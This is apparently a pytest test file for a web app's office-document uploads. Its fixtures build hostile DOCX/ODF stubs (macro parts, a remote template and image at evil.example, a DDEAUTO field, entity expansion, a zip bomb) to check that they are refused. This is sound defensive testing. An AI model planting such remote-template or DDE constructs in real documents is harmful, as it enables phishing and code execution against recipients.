"""Office documents as media: the six formats judged by content, hostile files refused
with nothing stored, served as attachments, their text shown, searched and bundled."""

from __future__ import annotations

import io
import zipfile

import pytest

from commons import bundles, media, pages, search
from commons.errors import ValidationError
from commons.models import Media, MediaVersion
from tests.conftest import english
from tests.test_bundles import export

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OOXML = "application/vnd.openxmlformats-officedocument"
MAIN_PARTS = {
    "docx": ("word/document.xml", f"{OOXML}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}.presentationml.presentation.main+xml"),
}
ODF = "application/vnd.oasis.opendocument"
ODF_TYPES = {"odt": f"{ODF}.text", "ods": f"{ODF}.spreadsheet", "odp": f"{ODF}.presentation"}


def zipped(parts: dict[str, bytes | str], *, first: str | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        if first is not None:
            archive.writestr(first, parts[first], compress_type=zipfile.ZIP_STORED)
        for name, data in parts.items():
            if name != first:
                archive.writestr(name, data)
    return stream.getvalue()


def word_body(*paragraphs: str, extra: str = "") -> str:
    runs = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    body = f"<w:body>{runs}{extra}</w:body>"
    return f'<?xml version="1.0"?><w:document xmlns:w="{W}">{body}</w:document>'


def ooxml(
    kind: str = "docx",
    *,
    main: str | None = None,
    main_type: str | None = None,
    extra: dict[str, bytes | str] | None = None,
) -> bytes:
    """A minimal Office Open XML file of ``kind``: content types, relationships, main part."""
    part, content_type = MAIN_PARTS[kind]
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{main_type or content_type}"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/officeDocument" Target="{part}"/></Relationships>'
    )
    body = main or (word_body("Compte rendu") if kind == "docx" else "<root/>")
    return zipped({"[Content_Types].xml": types, "_rels/.rels": rels, part: body, **(extra or {})})


def odf_content(*paragraphs: str, extra: str = "") -> str:
    texts = "".join(f"<text:p>{text}</text:p>" for text in paragraphs)
    return (
        '<?xml version="1.0"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text>{texts}{extra}</office:text></office:body>"
        "</office:document-content>"
    )


def odf(
    kind: str = "odt",
    *,
    content: str | None = None,
    manifest: str = "<manifest:manifest/>",
    extra: dict[str, bytes | str] | None = None,
) -> bytes:
    """A minimal OpenDocument file of ``kind``, its ``mimetype`` stored first."""
    parts = {
        "mimetype": ODF_TYPES[kind],
        "META-INF/manifest.xml": manifest,
        "content.xml": content or odf_content("Compte rendu"),
        **(extra or {}),
    }
    return zipped(parts, first="mimetype")


def relationship(type_: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{type_}" Target="{target}"{mode}/></Relationships>'
    )


def nothing_stored() -> bool:
    store = media.file_path("00").parents[1]
    files = [p for p in store.rglob("*") if p.is_file()] if store.exists() else []
    return Media.query.count() == 0 and MediaVersion.query.count() == 0 and files == []


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx", "odt", "ods", "odp"])
def test_the_six_office_formats_are_recognised_by_content(member, kind) -> None:
    data = ooxml(kind) if kind in MAIN_PARTS else odf(kind)
    version = media.upload(data, filename="Compte rendu.bin", author=member)
    assert version.media.name == f"compte-rendu.{kind}"
    assert version.content_type.startswith(
        "application/vnd.openxmlformats" if kind in MAIN_PARTS else ODF
    )
    assert media.file_path(version.sha256).read_bytes() == data


def _bomb() -> bytes:
    return ooxml(extra={"word/media/zeros.bin": b"\0" * 30_000_000})


HOSTILE = {
    "Word macros": (lambda: ooxml(extra={"word/vbaProject.bin": b"\xd0\xcf"}), "media_macros"),
    "macro-enabled type": (
        lambda: ooxml(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "media_macros",
    ),
    "Excel macros": (lambda: ooxml("xlsx", extra={"xl/vbaProject.bin": b"x"}), "media_macros"),
    "ActiveX": (lambda: ooxml(extra={"word/activeX/activeX1.xml": "<ax/>"}), "media_macros"),
    "ODF Basic": (lambda: odf(extra={"Basic/Standard/Module1.xml": "<m/>"}), "media_macros"),
    "ODF script event": (
        lambda: odf(
            content=odf_content(
                "x",
                extra='<script:event-listener xlink:href="'
                'vnd.sun.star.script:Standard.Module1.Main"/>',
            )
        ),
        "media_macros",
    ),
    "remote template": (
        lambda: ooxml(
            extra={
                "word/_rels/settings.xml.rels": relationship(
                    "attachedTemplate", "http://evil.example/t.dotm"
                )
            }
        ),
        "media_external_reference",
    ),
    "linked picture": (
        lambda: ooxml(
            "pptx",
            extra={
                "ppt/slides/_rels/slide1.xml.rels": relationship(
                    "image", "file://server/share/x.png"
                )
            },
        ),
        "media_external_reference",
    ),
    "Excel external link": (
        lambda: ooxml("xlsx", extra={"xl/externalLinks/externalLink1.xml": "<e/>"}),
        "media_external_reference",
    ),
    "Word DDE field": (
        lambda: ooxml(main=word_body("x", extra='<w:fldSimple w:instr="DDEAUTO c:\\\\x"/>')),
        "media_external_reference",
    ),
    "ODF remote picture": (
        lambda: odf(
            content=odf_content("x", extra='<draw:image xlink:href="https://evil.example/p.png"/>')
        ),
        "media_external_reference",
    ),
    "ODF linked section": (
        lambda: odf(content=odf_content("x", extra='<text:section-source xlink:href="../x.odt"/>')),
        "media_external_reference",
    ),
    "ODF encrypted": (
        lambda: odf(manifest="<manifest:manifest><manifest:encryption-data/></manifest:manifest>"),
        "media_encrypted",
    ),
    "OOXML encrypted (OLE container)": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
        "media_encrypted",
    ),
    "zip bomb": (_bomb, "media_too_large"),
    "entity expansion": (
        lambda: ooxml(main='<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]><w:document/>'),
        "media_invalid",
    ),
    "ODF template": (
        lambda: zipped({"mimetype": f"{ODF}.text-template", "content.xml": odf_content("x")}),
        "media_type_refused",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_office_files_are_refused_and_nothing_is_stored(app, member, case) -> None:
    build, code = HOSTILE[case]
    with app.test_request_context(headers={"Accept-Language": "en"}):
        with pytest.raises(ValidationError) as refused:
            media.upload(build(), filename="document.docx", author=member)
        assert refused.value.code == code
        assert len(str(refused.value.message)) > 30
    assert nothing_stored()


def test_a_document_named_as_another_format_is_refused(client, auth, member) -> None:
    auth.login(member)
    response = english(client).post(
        "/media/upload",
        data={"file": (io.BytesIO(odf()), "rapport.docx"), "license": "CC-BY-SA-4.0"},
    )
    assert response.status_code == 400
    assert "named “.docx” but its content is “.odt”" in response.get_data(as_text=True)
    assert nothing_stored()


def test_hyperlinks_in_a_document_are_allowed(member) -> None:
    links = relationship("hyperlink", "https://reseau.example.org/")
    version = media.upload(
        ooxml(extra={"word/_rels/document.xml.rels": links}), filename="liens.docx", author=member
    )
    assert version.media.name == "liens.docx"


def test_documents_are_served_as_attachments_and_show_their_text(client, member) -> None:
    media.upload(
        ooxml(main=word_body("Synthèse de l'atelier", "Troisième point")),
        filename="synthese.docx",
        author=member,
    )
    served = client.get("/media/synthese.docx/file")
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.mimetype == f"{OOXML}.wordprocessingml.document"
    page = english(client).get("/media/synthese.docx").get_data(as_text=True)
    assert "Format: Word document (.docx)" in page
    assert "<p>Synthèse de l&#39;atelier</p>" in page


def test_an_odt_text_is_shown_but_a_spreadsheet_shows_its_format_only(client, member) -> None:
    content = odf_content("Ordre du jour", extra="<text:p>Point<text:s/>un</text:p>")
    media.upload(odf(content=content), filename="odj.odt", author=member)
    media.upload(odf("ods"), filename="budget.ods", author=member)
    page = english(client).get("/media/odj.odt").get_data(as_text=True)
    assert "<p>Ordre du jour</p>" in page and "<p>Point un</p>" in page
    sheet = english(client).get("/media/budget.ods").get_data(as_text=True)
    assert "spreadsheet (OpenDocument)" in sheet and "Its text" not in sheet


def test_the_text_of_documents_is_searched(app, member, commit_each_change) -> None:
    media.upload(ooxml(main=word_body("Les semences paysannes")), filename="a.docx", author=member)
    media.upload(
        odf(content=odf_content("Des semences partagées")), filename="b.odt", author=member
    )
    app.extensions["commons_search"].wait_for_background(30)
    found = {hit.name for hit in search.search("semences").media}
    assert found == {"a.docx", "b.odt"}


def test_office_documents_round_trip_through_bundles(app, fresh_commons, member) -> None:
    data = ooxml("xlsx")
    media.upload(data, filename="budget.xlsx", author=member, creators="Trésorerie")
    pages.save(None, title="Budget", body="[Le budget](media:budget.xlsx)", author=member)
    bundle = export(bundles.Selection(slug="budget"))
    with fresh_commons().app_context():
        bundles.import_bundle(io.BytesIO(bundle))
        item = media.get("budget.xlsx")
        assert media.file_path(item.current_version.sha256).read_bytes() == data
        assert item.current_version.content_type == f"{OOXML}.spreadsheetml.sheet"
        assert media.creators(item) == ["Trésorerie"]
